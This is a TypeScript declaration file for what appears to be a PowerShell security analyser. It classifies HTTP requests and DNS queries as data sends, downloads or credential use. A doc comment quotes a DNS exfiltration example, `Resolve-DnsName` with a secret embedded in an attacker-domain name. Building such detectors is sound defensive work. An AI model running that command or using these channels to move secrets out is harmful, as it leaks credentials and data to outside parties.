import type { Node } from 'web-tree-sitter';
import type { Value } from '../../facts.js';
import type { PsCtx } from './context.js';
import { type PsVal } from './psval.js';
/**
 * One HTTP request from PowerShell (cmdlets and .NET clients alike): a `send` with its data when it
 * has a body or carries user or machine data in its URL or custom headers, else a `fetch` whose
 * response is `download`-tainted; `-OutFile` remembers the file written. DNS names built from data are
 * a send too, and TXT lookups a way in.
 */
/** The downloaded response of `url`. */
export declare function downloaded(url: string, tool: string): PsVal;
export interface HttpParts {
    body?: PsVal;
    headers?: PsVal;
    outFile?: PsVal;
    /** `-Credential`, `-Token`: what authenticates the request. */
    auth?: PsVal;
    /** `-Method Post` with no body is still a send. */
    method?: string;
}
/**
 * One HTTP request: `send` with its data (a body, a write method, user or machine data in the URL or
 * custom headers), or `fetch` (to `outFile` when given). Credential headers, `-Credential`/`-Token` and
 * a secret-named environment variable in the URL go to `credentials`, not `data` (the rule weighs them
 * against the endpoint).
 */
export declare function httpCall(ix: PsCtx, node: Node, tool: string, urlVal: PsVal | undefined, o: HttpParts): PsVal;
/** `Resolve-DnsName "$secret.attacker.tld"` sends data in the name; TXT records bring data in. */
export declare function dnsQuery(ix: PsCtx, name: Value, txt: boolean, node: Node, tool: string): PsVal;
